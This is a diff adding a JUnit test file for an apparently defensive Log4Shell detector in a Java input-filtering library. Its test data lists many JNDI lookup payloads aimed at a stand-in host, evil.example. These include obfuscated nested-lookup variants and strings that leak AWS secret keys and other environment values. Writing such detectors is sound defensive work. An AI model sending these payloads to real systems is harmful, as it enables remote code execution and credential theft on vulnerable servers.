@@ -1,0 +1,100 @@
+package dev.lambdaguard.input.detect;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertNotNull;
+import static org.junit.jupiter.api.Assertions.assertNull;
+
+import dev.lambdaguard.input.Category;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** Log4Shell lookups: resolved the way Log4j resolves them, in bounded work. */
+class JndiDetectorTest {
+
+  private final JndiDetector detector = new JndiDetector();
+
+  private Detection detect(String value) {
+    return detector.detect(Normalized.of(value));
+  }
+
+  private void assertRule(String ruleId, int score, String value) {
+    Detection d = detect(value);
+    assertNotNull(d, () -> "not detected: " + value);
+    assertEquals(Category.JNDI, d.category());
+    assertEquals(ruleId, d.ruleId(), () -> "rule for: " + value);
+    assertEquals(score, d.score(), () -> "score for: " + value);
+  }
+
+  @Test
+  void isTheJndiCategory() {
+    assertEquals(Category.JNDI, detector.category());
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {
+    "${jndi:ldap://evil.example/a}", "${jndi:ldaps://evil.example/a}", "${jndi:rmi://evil.example/a}",
+    "${jndi:dns://evil.example}", "${jndi:iiop://evil.example/a}", "${jndi:corba://evil.example/a}",
+    "${jndi:nds://evil.example/a}", "${jndi:http://evil.example/a}", "${JNDI:LDAP://evil.example/a}",
+    "User-Agent: Mozilla ${jndi:ldap://evil.example/a}", "${jndi:ldap://${env:USER}.evil.example/a}",
+    "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}", "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
+    "${jndi:ldap://evil.example:1389/${env:AWS_SECRET_ACCESS_KEY}"
+  })
+  void aJndiLookupIsDetected(String value) {
+    assertRule("jndi.lookup", 100, value);
+  }
+
+  @Test
+  void aJndiLookupWithoutARemoteProtocolScoresLower() {
+    assertRule("jndi.lookup", 90, "${jndi:java:comp/env/x}");
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {
+    "${${lower:j}ndi:ldap://evil.example/a}", "${${upper:j}ndi:ldap://evil.example/a}",
+    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}",
+    "${${lower:jndi}:${lower:rmi}://evil.example/a}", "${j${loWer:Nd}i${uPper::}://evil.example/a}",
+    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
+    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}",
+    "${${lower:${upper:j}}ndi:ldap://evil.example/a}", "${${base64:am5kaQ==}:ldap://evil.example/a}",
+    "${jnd${upper:ı}:ldap://evil.example/a}", "${${k8s:x:-J}${k8s:x:-ND}i${sd:x:-:}ldap://evil.example}",
+    "${${::-j}ndi:rmi://evil.example/a"
+  })
+  void aJndiKeywordRebuiltByNestedLookupsIsDetected(String value) {
+    assertRule("jndi.nested-lookup", 100, value);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {
+    "${env:AWS_SECRET_ACCESS_KEY}", "${env:AWS_SESSION_TOKEN}", "${sys:db.password}",
+    "${lower:${env:AWS_ACCESS_KEY_ID}}", "${upper:${sys:user.name}}"
+  })
+  void environmentLookupsThatExfiltrateAreDetected(String value) {
+    assertRule("jndi.env-exfiltration", 80, value);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {
+    "${HOME}", "${user.name}", "${env:PATH}", "${env:ProgramFiles}", "${sys:java.version}", "${price}",
+    "Hello ${name}, your balance is ${balance}", "${a:-default}", "${lower:HELLO}", "${date:yyyy-MM-dd}",
+    "Contact JNDI support: jndi: is a Java API", "$5 and {jndi}", "${${lower:x}}", "}}}${", "${"
+  })
+  void legitimateTextPasses(String value) {
+    assertNull(detect(value), () -> "flagged: " + value);
+  }
+
+  @Test
+  void nestingDeeperThanTheBoundIsKeptAsText() {
+    String deep = "${lower:".repeat(20) + "x" + "}".repeat(20);
+    assertNull(detect(deep));
+    String deepJndi = "${lower:".repeat(20) + "${jndi:ldap://evil.example/a}" + "}".repeat(20);
+    assertNotNull(detect(deepJndi), "the keyword is still seen in the text kept");
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"${", "${${", "${jndi:", "${::-", "}", "${lower:", "$", "${a}"})
+  void aMegabyteOfNearMissesCompletes(String unit) {
+    String value = unit.repeat(1_000_000 / unit.length());
+    detector.detect(Normalized.of(value)); // linear: completes; no timing assertion
+  }
+}
